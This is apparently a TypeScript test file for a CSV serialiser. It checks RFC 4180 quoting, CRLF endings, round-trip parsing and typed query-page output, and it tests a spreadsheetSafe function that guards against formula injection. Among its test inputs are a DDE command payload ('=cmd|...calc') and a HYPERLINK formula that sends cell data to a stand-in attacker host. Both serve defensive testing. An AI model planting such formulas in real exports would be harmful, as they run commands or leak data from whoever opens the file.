import { parse } from 'csv-parse/sync'
import t from 'tap'
import { csvField, csvRecord, rowsToCsv, spreadsheetSafe } from '../../src/serialise/csv.ts'

t.test('fields are quoted exactly when RFC 4180 needs it', async (t) => {
  const cases: Array<[string | number | boolean | null, string]> = [
    [null, ''],
    ['', '""'],
    ['plain', 'plain'],
    ['北京市朝阳区', '北京市朝阳区'],
    ['a,b', '"a,b"'],
    ['say "hi"', '"say ""hi"""'],
    ['line\nbreak', '"line\nbreak"'],
    ['carriage\rreturn', '"carriage\rreturn"'],
    ['crlf\r\n', '"crlf\r\n"'],
    [' padded ', ' padded '],
    [42, '42'],
    [-0.5, '-0.5'],
    [1e21, '1e+21'],
    [true, 'true'],
    [false, 'false'],
  ]
  for (const [value, expected] of cases) t.equal(csvField(value), expected, JSON.stringify(value))
})

t.test('records end in CRLF and read back through an independent parser', async (t) => {
  const rows = [
    ['id', 'text', 'n'],
    ['1', 'a, "quoted" value', '3.5'],
    ['2', 'two\r\nlines', ''],
    ['3', '=cmd|"/c calc"!A1', '-1'],
  ]
  const text = rows.map(csvRecord).join('')
  t.ok(text.endsWith('\r\n'))
  t.same(parse(text, { relax_quotes: false }), rows.map((r) => r.map((v) => v)))
})

t.test('the spreadsheet variant makes text that a spreadsheet would run as a formula text (OWASP)', async (t) => {
  const cases: Array<[string | number | boolean | null, string | number | boolean | null]> = [
    ['=1+2', "'=1+2"],
    ['=HYPERLINK("http://evil.example/?x="&A1,"click")', '\'=HYPERLINK("http://evil.example/?x="&A1,"click")'],
    ['+1 more', "'+1 more"],
    ['-', "'-"],
    ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
    ['\tcmd', "'\tcmd"],
    ['\rcmd', "'\rcmd"],
    ['a=b', 'a=b'],
    [' =1', ' =1'],
    ['＝1', '＝1'],
    ["'quoted", "'quoted"],
    ['', ''],
    [null, null],
    [-5, -5],
    [true, true],
  ]
  for (const [value, safe] of cases) t.same(spreadsheetSafe(value), safe, JSON.stringify(value))
  t.equal(csvField(spreadsheetSafe('\rcmd')), '"\'\rcmd"', 'still quoted as RFC 4180 needs')
})

t.test('a query page: header, then each cell by its field type; booleans stored as 0/1 read as booleans', async (t) => {
  const fields = [
    { name: 'id', type: 'integer' },
    { name: 'note', type: 'string' },
    { name: 'open', type: 'boolean' },
    { name: 'pm25', type: 'number' },
  ] as const
  const rows = [
    [1, '', 1, 1.5],
    [2, null, 0, null],
    [3, 'a,"b"', null, -0.25],
    [4, '北京\r\n朝阳', true, 1e21],
  ]
  t.equal(rowsToCsv(rows, fields), 'id,note,open,pm25\r\n1,"",true,1.5\r\n2,,false,\r\n3,"a,""b""",,-0.25\r\n4,"北京\r\n朝阳",true,1e+21\r\n')
  t.equal(rowsToCsv([], fields), 'id,note,open,pm25\r\n', 'no rows: the header alone')
  t.equal(rowsToCsv([[1, 'x', 0, 2, 'key column beyond the fields']], fields), 'id,note,open,pm25\r\n1,x,false,2\r\n', 'columns past the fields (cursor keys) are not written')
})
